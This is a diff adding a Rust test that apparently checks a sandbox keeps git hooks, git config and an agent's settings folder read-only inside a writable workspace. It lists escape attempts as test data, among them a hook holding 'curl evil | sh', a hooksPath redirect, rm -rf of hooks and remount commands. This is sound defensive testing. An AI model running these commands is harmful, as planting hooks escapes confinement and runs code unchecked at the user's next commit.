@@ -172,3 +172,46 @@ fn a_databases_unix_socket_is_out_of_reach_unless_listed() {
     let allowed = run(&Sandbox::new(listed).unwrap(), workspace.path(), &connect);
     assert_eq!(String::from_utf8_lossy(&allowed.stdout), "connected\n", "{}", stderr(&allowed));
 }
+
+/// What configures git and amplifier stays read-only inside a writable
+/// workspace: a hook a command wrote would run, unconfined, at the user's
+/// next commit. Everything else in the workspace stays writable.
+#[test]
+fn protected_paths_in_the_workspace_stay_read_only() {
+    let workspace = tempfile::tempdir().unwrap();
+    let ws = workspace.path();
+    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
+    std::fs::create_dir_all(ws.join(".git/objects")).unwrap();
+    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+    std::fs::create_dir(ws.join(".amplifier")).unwrap();
+    let policy = Policy {
+        writable: vec![ws.to_path_buf()],
+        read_only: [".git/hooks", ".git/config", ".amplifier", "absent"].iter().map(|p| ws.join(p)).collect(),
+        ..Policy::default()
+    };
+    let sandbox = Sandbox::new(policy).unwrap();
+    assert!(sandbox.keeps_read_only(), "this machine allows mount namespaces (root, or user namespaces)");
+    for escape in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config",
+        "echo 'plan: evil.yaml' > .amplifier/settings.yaml",
+        "rm -rf .git/hooks",
+        "mv .git/hooks .git/old-hooks",
+        "mv .git/config .git/config.old",
+        "mount -o remount,rw .git/hooks",
+        "umount .git/hooks",
+    ] {
+        let output = run(&sandbox, ws, escape);
+        assert!(!output.status.success(), "`{escape}` worked");
+    }
+    assert!(!ws.join(".git/hooks/pre-commit").exists() && !ws.join(".amplifier/settings.yaml").exists());
+    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n");
+    let said = stderr(&run(&sandbox, ws, "echo x > .git/hooks/post-commit"));
+    assert!(said.contains("Read-only file system"), "{said}");
+    let allowed = run(&sandbox, ws, "echo blob > .git/objects/x && echo kept > notes.txt && cat .git/config");
+    assert_eq!(String::from_utf8_lossy(&allowed.stdout), "[core]\n", "{}", stderr(&allowed));
+    assert!(ws.join(".git/objects/x").exists() && ws.join("notes.txt").exists());
+    // Nothing the namespace mounted shows outside it.
+    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
+    assert!(!mounts.contains(&ws.join(".git/hooks").display().to_string()), "{mounts}");
+}
